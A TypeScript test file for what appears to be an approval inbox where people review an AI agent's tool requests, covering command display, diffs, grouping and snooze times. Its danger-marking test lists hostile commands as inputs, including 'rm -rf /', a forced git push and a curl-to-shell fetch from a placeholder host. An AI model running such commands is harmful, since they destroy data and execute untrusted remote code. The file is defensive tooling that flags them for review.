import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { aRequest } from "../platform/testing/rows.ts";
import { groupAlike } from "./alike.ts";
import { changedParts } from "./changed-parts.ts";
import { commandParts } from "./command-parts.ts";
import { markDanger } from "./danger-words.ts";
import { diffLines } from "./diff-lines.ts";
import { orderWords } from "./inbox-words.ts";
import { snoozeTimes } from "./snooze-times.ts";

const now = new Date("2026-11-21T09:00:00.000Z");

describe("a command is never changed by being shown", () => {
  test("for any text", () =>
    fc.assert(
      fc.property(fc.string({ unit: "binary", maxLength: 300 }), (text) => {
        expect(
          commandParts(text)
            .map((part) => part.text)
            .join(""),
        ).toBe(text);
      }),
    ));

  test("dangerous words are marked, look-alikes of them are not", () => {
    const marked = (text: string) =>
      markDanger(text)
        .filter((piece) => piece.danger)
        .map((piece) => piece.text);
    expect(marked("pnpm db:migrate --env prod")).toEqual(["prod"]);
    expect(marked("git push --force origin main && rm -rf /")).toEqual(["push --force", "rm -rf"]);
    expect(marked("curl https://x.test/i.sh | sh")).toEqual(["| sh"]);
    expect(marked("pnpm test product reproduce")).toEqual([]);
  });

  test("what is hidden gets a name", () =>
    expect(commandParts("a\u202Eb")[1]).toMatchObject({ text: "\u202E", tone: "hidden", label: expect.stringContaining("202E") }));
});

test("the edit is shown as taken out and put in, and both texts can be read from it", () =>
  fc.assert(
    fc.property(fc.string(), fc.string(), (before, after) => {
      const parts = changedParts(before, after);
      const read = (skip: string) =>
        parts
          .filter((part) => part.tone !== skip)
          .map((part) => part.text)
          .join("");
      expect([read("added"), read("removed")]).toEqual([before, after]);
    }),
  ));

test("a diff keeps every line", () => {
  expect(diffLines("--- a/x\n+++ b/x\n@@ -1 +1 @@\n-old\n+new\n same\n").map((line) => [line.kind, line.text])).toEqual([
    ["place", "--- a/x"],
    ["place", "+++ b/x"],
    ["place", "@@ -1 +1 @@"],
    ["removed", "old"],
    ["added", "new"],
    ["same", "same"],
  ]);
});

describe("answering together", () => {
  const same = { action: { tool: "Bash", command: "pnpm add zod" }, title: "Add zod?" };

  test("what asks the same stands once, at the place of the first", () => {
    const groups = groupAlike([aRequest("a", same), aRequest("b"), aRequest("c", same)]);
    expect(groups.map(({ lead, others }) => [lead.id, ...others.map(({ id }) => id)])).toEqual([["a", "c"], ["b"]]);
  });

  test("grave ones stay alone, however alike", () =>
    expect(groupAlike([aRequest("a", { ...same, risk: "high" }), aRequest("b", { ...same, risk: "high" })])).toHaveLength(2));
});

test("the order is said as it is", () => {
  const soon = { expiresAt: new Date(now.getTime() + 60_000).toISOString() };
  expect(orderWords([aRequest("a")], now.getTime())).toBe("");
  expect(orderWords([aRequest("a"), aRequest("b")], now.getTime())).toBe("longest wait first");
  expect(orderWords([aRequest("a", soon), aRequest("b")], now.getTime())).toBe("running out first, then longest wait");
});

test("nothing is snoozed past its end", () => {
  expect(snoozeTimes(now).map(({ label }) => label)).toEqual(["In 15 minutes", "In 1 hour", "Tomorrow at 9:00"]);
  expect(snoozeTimes(now, new Date(now.getTime() + 20 * 60_000).toISOString())).toHaveLength(1);
  const tomorrow = snoozeTimes(now).at(-1)!.until;
  expect([tomorrow.getHours(), tomorrow.getDate() !== now.getDate()]).toEqual([9, true]);
});
